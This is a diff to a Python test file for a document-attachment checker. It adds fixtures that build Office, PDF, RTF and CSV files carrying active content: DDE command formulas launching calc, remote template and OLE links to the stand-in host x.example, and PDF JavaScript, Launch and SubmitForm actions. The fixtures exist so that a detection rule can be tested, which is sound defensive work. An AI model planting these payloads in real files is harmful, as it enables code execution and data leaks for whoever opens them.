@@ -14,6 +14,7 @@ import openpyxl
 import pypdf
 import pytest
 from PIL import Image
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, RectangleObject, TextStringObject
 from reportlab.lib.utils import ImageReader
 from reportlab.pdfgen.canvas import Canvas
 
@@ -21,7 +22,10 @@ from jiyue.checks import bounded
 from jiyue.checks.attachments import ALLOWED, RULES, attachment_findings
 from jiyue.checks.bounded import BoundedReader
 from jiyue.checks.content import CheckSettings
-from jiyue.checks.extract import READERS, Limits, Part, TooLarge, converter, decode, read
+from jiyue.checks.extract.dispatch import READERS, read
+from jiyue.checks.extract.old import converter
+from jiyue.checks.extract.pieces import Limits, Part, TooLarge
+from jiyue.checks.extract.plain import decode
 from jiyue.checks.svg import svg_problem
 from jiyue.diagnostics import Diagnostic, Severity
 from tests.support.carriers import CARRIERS
@@ -64,12 +68,28 @@ def picture(position: bool = False, kind: str = "JPEG") -> bytes:
     return out.getvalue()
 
 
-def pdf(*, password: str = "", text: str = "公示 hello", scan: bool = False) -> bytes:
+def photo() -> bytes:
+    """A JPEG of some kilobytes."""
+    out = io.BytesIO()
+    Image.frombytes("RGB", (64, 64), random.Random(1).randbytes(64 * 64 * 3)).save(out, "JPEG")
+    return out.getvalue()
+
+
+def _heavy() -> bytes:
+    out = io.BytesIO()
+    Image.frombytes("RGB", (1400, 1400), random.Random(1).randbytes(1400 * 1400 * 3)).save(out, "PNG", compress_level=0)
+    return out.getvalue()
+
+
+def pdf(
+    *, password: str = "", text: str = "公示 hello", scan: bool = False, strips: int = 1, beside: str = "Page 1 of 2"
+) -> bytes:
     out = io.BytesIO()
     page = Canvas(out)
     if scan:
-        page.drawImage(ImageReader(io.BytesIO(picture())), 0, 0, 500, 700)
-        page.drawString(250, 20, "Page 1 of 2")
+        for strip in range(strips):
+            page.drawImage(ImageReader(io.BytesIO(picture())), 0, strip * 700 / strips, 500, 700 / strips)
+        page.drawString(250, 20, beside)
     else:
         page.drawString(50, 700, text)
     page.showPage()
@@ -104,10 +124,93 @@ def _with_entities() -> bytes:
 
 
 def _with_macro() -> bytes:
+    return _book("1", {"xl/vbaProject.bin": b"x"})
+
+
+def _book(formula: str, extra: dict[str, bytes] | None = None) -> bytes:
     out = io.BytesIO()
-    openpyxl.Workbook().save(out)
+    book = openpyxl.Workbook()
+    book.active["A1"] = f"={formula}"
+    book.save(out)
     with zipfile.ZipFile(out, "a") as archive:
-        archive.writestr("xl/vbaProject.bin", b"x")
+        for name, data in (extra or {}).items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
+SPREADSHEET = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+MACROSHEET = b'<macrosheet xmlns="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></macrosheet>'
+AUTO_OPEN = (
+    b"<workbook %s><definedNames><definedName name='_xlnm.Auto_Open'>A!$A$1</definedName></definedNames></workbook>"
+    % SPREADSHEET
+)
+DDE_LINK = b"<externalLink %s><ddeLink ddeService='cmd' ddeTopic='x'/></externalLink>" % SPREADSHEET
+ACTION = (
+    b'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">'
+    b'<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/></p:sld>'
+)
+MAIL = b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>1</script>"
+REMOTE = (
+    ("attachedTemplate", "https://x.example/a.dotm"),
+    ("attachedTemplate", "\\\\x.example\\a.dotm"),
+    ("oleObject", "file://x.example/a.doc"),
+    ("image", "http://x.example/a.png"),
+    ("frame", "mhtml:https://x.example/a!x"),
+)
+
+
+def _relation(kind: str, target: str) -> bytes:
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
+        "</Relationships>"
+    ).encode()
+
+
+def _word(inner: str) -> bytes:
+    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    return f'<w:document xmlns:w="{space}"><w:body><w:p><w:r>{inner}</w:r></w:p></w:body></w:document>'.encode()
+
+
+def _pdf_with(change: Callable[[pypdf.PdfWriter], object]) -> bytes:
+    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
+    change(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _action(action: dict[str, str], writer: pypdf.PdfWriter) -> None:
+    names = {
+        key: NameObject(value) if value.startswith("/") else TextStringObject(value) for key, value in action.items()
+    }
+    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
+        {NameObject(key): value for key, value in names.items()}
+    )
+
+
+def _opens_at_a_page(writer: pypdf.PdfWriter) -> None:
+    page = writer.pages[0].indirect_reference
+    assert page
+    writer.root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])
+    writer.add_uri(0, "https://www.gov.cn/", RectangleObject((0, 0, 9, 9)))
+
+
+def _curves() -> bytes:
+    out = io.BytesIO()
+    page = Canvas(out)
+    page.drawString(50, 20, "Page 1 of 2, printed for the office")
+    for number in range(60):
+        letter = page.beginPath()
+        x, y = 50 + number % 20 * 14, 700 - number // 20 * 20
+        letter.moveTo(x, y)
+        for step in range(6):
+            letter.curveTo(x + step, y + 9, x + 9, y + step, x + 10, y + 10)
+        letter.close()
+        page.drawPath(letter, stroke=0, fill=1)
+    page.showPage()
+    page.save()
     return out.getvalue()
 
 
@@ -125,7 +228,10 @@ MUST_FIRE: dict[str, list[tuple[str, Callable[[], bytes]]]] = {
         ("a.ofd", lambda: zipped({"OFD.xml": b"<x/>"})), ("locked.pdf", lambda: pdf(password="secret")),
         ("scan.pdf", lambda: pdf(scan=True)),
         ("broken.docx", lambda: zipped({"word/document.xml": b"<x"})), ("cut.zip", lambda: zipped({"a.txt": b"x" * 99})[:60]),
-        ("unknown.zip", lambda: zipped({"a.rar": b"Rar!"})), ("entities.docx", _with_entities), ("macro.xlsx", _with_macro),
+        ("unknown.zip", lambda: zipped({"a.rar": b"Rar!"})), ("entities.docx", _with_entities),
+        ("renamed.docx", lambda: zipped({"a.txt": b"x"})),
+        ("curves.pdf", _curves), ("covered.pdf", lambda: pdf(scan=True, beside="CamScanner")),
+        ("strips.pdf", lambda: pdf(scan=True, strips=5)),
         ("bad.txt", lambda: b"\xff\x81\xff\xff\x80" * 9),
     ],
     "attachment-too-large": [
@@ -136,6 +242,29 @@ MUST_FIRE: dict[str, list[tuple[str, Callable[[], bytes]]]] = {
         ("a.jpg", lambda: picture(True)), ("a.png", lambda: picture(True, "PNG")), ("a.zip", lambda: zipped({"b/c.jpg": picture(True)})),
         ("a.mp4", lambda: b"\0\0\0\x18ftypmp42....moov\xa9xyz\0\x12+43.88+125.3/"),
     ],
+    "attachment-active": [
+        ("macro.xlsx", _with_macro), ("dde.xlsx", lambda: _book("cmd|'/c calc'!A0")), ("web.xlsx", lambda: _book('WEBSERVICE("https://x.example")')),
+        ("dde.docx", lambda: _docx({"word/more.xml": _word("<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c</w:instrText>")})),
+        ("field.docx", lambda: _docx({"word/more.xml": _word('<w:fldSimple w:instr=" DDEAUTO c:\\\\x "/>')})),
+        *((f"{kind}.docx", functools.partial(_docx, {"word/_rels/settings.xml.rels": _relation(kind, target)})) for kind, target in REMOTE),
+        ("ole.docx", lambda: _docx({"word/embeddings/oleObject1.bin": OLE})), ("stray.docx", lambda: _docx({"word/x.dat": OLE})),
+        ("chunk.docx", lambda: _docx({"word/chunk.htm": b"<html><script>alert(1)</script>"})),
+        ("macrosheet.xlsx", lambda: _book("1", {"xl/macrosheets/sheet9.xml": MACROSHEET})),
+        ("auto.xlsx", lambda: _book("1", {"xl/workbook2.xml": AUTO_OPEN})),
+        ("link.xlsx", lambda: _book("1", {"xl/externalLinks/externalLink1.xml": DDE_LINK})),
+        ("action.pptx", lambda: _docx({"ppt/presentation.xml": b"<p/>", "ppt/slides/slide9.xml": ACTION})),
+        ("js.pdf", lambda: _pdf_with(functools.partial(_action, {"/S": "/JavaScript", "/JS": "app.alert(1)"}))),
+        ("launch.pdf", lambda: _pdf_with(functools.partial(_action, {"/S": "/Launch", "/F": "calc.exe"}))),
+        ("submit.pdf", lambda: _pdf_with(functools.partial(_action, {"/S": "/SubmitForm", "/F": "https://x.example"}))),
+        ("a.csv", lambda: b"a,b\n1,=cmd|'/c calc'!A0\n"), ("a.rtf", lambda: b"{\\rtf1{\\object{\\*\\objdata 0105}}}"),
+        ("b.rtf", lambda: b"{\\rtf1{\\*\\template https://x.example/a.dot}x}"), ("c.rtf", lambda: b"{\\rtf1{\\field{\\*\\fldinst DDE c}}}"),
+        ("page.zip", lambda: zipped({"a.html": b"<p onclick='x()'>"})), ("mail.zip", lambda: zipped({"a.eml": MAIL})),
+    ],
+    "picture-truncated": [
+        ("a.jpg", lambda: photo()[:-40]), ("a.png", lambda: picture(kind="PNG")[:-20]), ("a.gif", lambda: picture(kind="GIF")[:-4]),
+        ("a.webp", lambda: picture(kind="WEBP")[:-4]), ("a.docx", lambda: _docx({"word/media/a.jpg": photo()[:-40]})),
+    ],
+    "picture-heavy": [("a.png", _heavy)],
     "attachment-svg": [
         ("a.svg", functools.partial(svg, inner))
         for inner in (
@@ -171,6 +300,26 @@ MUST_NOT_FIRE: dict[str, list[tuple[str, Callable[[], bytes]]]] = {
         ("a.png", lambda: picture(kind="PNG")),
         ("a.mp4", lambda: b"\0\0\0\x18ftypmp42"),
     ],
+    "attachment-active": [
+        (
+            "a.docx",
+            lambda: _docx(
+                {"word/_rels/settings.xml.rels": _relation("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm")}
+            ),
+        ),
+        ("b.docx", lambda: _docx({"word/_rels/x.xml.rels": _relation("hyperlink", "https://www.gov.cn/")})),
+        ("a.xlsx", lambda: _book("IF('a|b'!A1=\"x|y\",SUM(A1:A3),1)")),
+        ("b.pdf", lambda: _pdf_with(_opens_at_a_page)),
+        ("a.csv", lambda: b"a|b,-1\n"),
+        ("a.zip", lambda: zipped({"a.html": b"<p>description = 1</p>"})),
+    ],
+    "picture-truncated": [
+        ("a.jpg", photo),
+        ("b.png", lambda: picture(kind="PNG")),
+        ("c.gif", lambda: picture(kind="GIF")),
+        ("d.webp", lambda: picture(kind="WEBP")),
+    ],
+    "picture-heavy": [("a.jpg", photo)],
     "attachment-svg": [("a.svg", lambda: CLEAN_SVG)],
 }
 
@@ -195,7 +344,7 @@ def test_fires(
 def test_stays_quiet(
     check: Callable[[str, bytes], list[Diagnostic]], rule: str, name: str, make: Callable[[], bytes]
 ) -> None:
-    assert check(name, make()) == []
+    assert [str(d) for d in check(name, make())] == []
 
 
 def test_every_attachment_rule_has_both() -> None:
@@ -322,7 +471,7 @@ def test_a_lying_archive_is_no_way_round_the_bounds() -> None:
 
 
 def test_every_type_that_may_be_published_is_read_or_said(tmp_path: Path) -> None:
-    assert set(ALLOWED) - set(READERS) == {".ofd", ".svg"}  # an SVG is read as the text it is
+    assert set(ALLOWED) - set(READERS) == {".ofd"}
 
 
 def test_old_formats_are_read_or_said(real_texts: Path, reader: BoundedReader) -> None:
